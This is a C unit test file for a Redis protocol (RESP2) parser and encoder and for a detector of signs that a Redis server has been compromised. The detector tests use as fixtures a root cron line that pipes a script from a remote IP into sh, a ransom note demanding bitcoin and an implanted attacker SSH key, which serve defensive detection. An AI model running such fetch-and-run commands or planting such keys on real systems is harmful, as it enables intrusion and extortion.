/* Unit tests for the bounded RESP2 parser and encoder (src/engines/redis/resp.c) and the Redis
 * engine's compromise signs (redis_assess.c). */
// clang-format off
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>
// clang-format on

#include <stdio.h>
#include <string.h>

#include "engines/redis/redis_int.h"
#include "engines/redis/resp.h"

static enum resp_status parse(const char *s, struct resp_value *v, size_t *used)
{
    char err[128];
    return resp_parse(s, strlen(s), NULL, v, used, err, sizeof err);
}

static void test_scalars(void **state)
{
    (void)state;
    struct resp_value v;
    size_t used;
    assert_int_equal(parse("+PONG\r\n", &v, &used), RESP_OK);
    assert_int_equal(v.type, RESP_SIMPLE);
    assert_true(resp_is(&v, "PONG"));
    assert_int_equal(used, 7);
    assert_int_equal(parse("-NOAUTH Authentication required.\r\n", &v, &used), RESP_OK);
    assert_int_equal(v.type, RESP_ERROR);
    assert_int_equal(v.len, strlen("NOAUTH Authentication required."));
    assert_int_equal(parse(":-42\r\n", &v, &used), RESP_OK);
    assert_int_equal(v.integer, -42);
    assert_int_equal(parse("$5\r\nhello\r\n+extra", &v, &used), RESP_OK);
    assert_int_equal(v.type, RESP_BULK);
    assert_int_equal(used, 11);
    assert_memory_equal(v.str, "hello", 5);
    assert_int_equal(parse("$-1\r\n", &v, &used), RESP_OK);
    assert_int_equal(v.type, RESP_NIL);
    assert_int_equal(parse("$0\r\n\r\n", &v, &used), RESP_OK);
    assert_int_equal(v.len, 0);
}

static void test_need_more(void **state)
{
    (void)state;
    struct resp_value v;
    size_t used;
    assert_int_equal(parse("", &v, &used), RESP_NEED_MORE);
    assert_int_equal(parse("+PON", &v, &used), RESP_NEED_MORE);
    assert_int_equal(used, 5);
    /* a bulk header tells exactly how much is needed */
    assert_int_equal(parse("$10\r\nabc", &v, &used), RESP_NEED_MORE);
    assert_int_equal(used, 5 + 10 + 2);
    assert_int_equal(parse("*2\r\n$1\r\na\r\n", &v, &used), RESP_NEED_MORE);
}

static void test_bad(void **state)
{
    (void)state;
    struct resp_value v;
    size_t used;
    assert_int_equal(parse("HTTP/1.1 400 Bad Request\r\n", &v, &used), RESP_BAD);
    assert_int_equal(parse("$9223372036854775808\r\n", &v, &used), RESP_BAD); /* 2^63 */
    assert_int_equal(parse("$-2\r\n", &v, &used), RESP_BAD);
    assert_int_equal(parse("$2000000\r\n", &v, &used), RESP_BAD); /* over the 1 MiB cap */
    assert_int_equal(parse("*-5\r\n", &v, &used), RESP_BAD);
    assert_int_equal(parse("*99999\r\n", &v, &used), RESP_BAD);
    assert_int_equal(parse(":12a\r\n", &v, &used), RESP_BAD);
    assert_int_equal(parse(":\r\n", &v, &used), RESP_BAD);
    assert_int_equal(parse("+OK\n", &v, &used), RESP_BAD);
    assert_int_equal(parse("$3\r\nabcXY", &v, &used), RESP_BAD);
    assert_int_equal(parse("*1\r\n*1\r\n*1\r\n*1\r\n*1\r\n:1\r\n", &v, &used), RESP_BAD); /* depth */
    /* a line with no end is refused at the cap, not buffered forever */
    static char longline[70000];
    memset(longline, 'a', sizeof longline - 1);
    longline[0] = '+';
    assert_int_equal(parse(longline, &v, &used), RESP_BAD);
}

static void test_arrays(void **state)
{
    (void)state;
    struct resp_value v;
    size_t used;
    const char *scan = "*2\r\n$2\r\n17\r\n*3\r\n$1\r\na\r\n$2\r\nbb\r\n$3\r\nccc\r\n";
    assert_int_equal(parse(scan, &v, &used), RESP_OK);
    assert_int_equal(used, strlen(scan));
    assert_int_equal(v.type, RESP_ARRAY);
    assert_int_equal(v.nelems, 2);
    assert_true(resp_is(&v.elems[0], "17"));
    assert_int_equal(v.elems[1].nelems, 3);
    assert_true(resp_is(&v.elems[1].elems[2], "ccc"));
    resp_reply_free(&v);
    assert_int_equal(parse("*-1\r\n", &v, &used), RESP_OK);
    assert_int_equal(v.type, RESP_NIL);
    assert_int_equal(parse("*0\r\n", &v, &used), RESP_OK);
    assert_int_equal(v.nelems, 0);
    resp_reply_free(&v);
}

static void test_encode(void **state)
{
    (void)state;
    char out[64];
    const char *argv[] = {"GETRANGE", "k\r\ny", "0", "65535"};
    size_t n = resp_encode(out, sizeof out, argv, NULL, 4);
    const char *want = "*4\r\n$8\r\nGETRANGE\r\n$4\r\nk\r\ny\r\n$1\r\n0\r\n$5\r\n65535\r\n";
    assert_int_equal(n, strlen(want));
    assert_memory_equal(out, want, n);
    assert_int_equal(resp_encode(out, 10, argv, NULL, 4), 0);
}

static void test_compromise(void **state)
{
    (void)state;
    char ev[300];
    const char *cron = "\n\n*/2 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n\n";
    assert_true(redis_compromise_sign("backup1", 7, cron, strlen(cron), ev, sizeof ev));
    assert_non_null(strstr(ev, "backup1"));
    assert_false(redis_compromise_sign("backup1", 7, "nightly at 2am", 14, ev, sizeof ev));
    assert_false(redis_compromise_sign("backup9", 7, cron, strlen(cron), ev, sizeof ev));
    const char *note = "All your data is backed up. Send 0.01 BTC to restore it.";
    assert_true(redis_compromise_sign("READ_ME_TO_RECOVER", 18, note, strlen(note), ev, sizeof ev));
    assert_false(redis_compromise_sign("readme", 6, "see docs", 8, ev, sizeof ev));
    const char *ssh = "\n\nssh-rsa AAAAB3NzaC1yc2E attacker@host\n\n";
    assert_true(redis_compromise_sign("crackit", 7, ssh, strlen(ssh), ev, sizeof ev));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_scalars), cmocka_unit_test(test_need_more), cmocka_unit_test(test_bad),
        cmocka_unit_test(test_arrays),  cmocka_unit_test(test_encode),    cmocka_unit_test(test_compromise),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
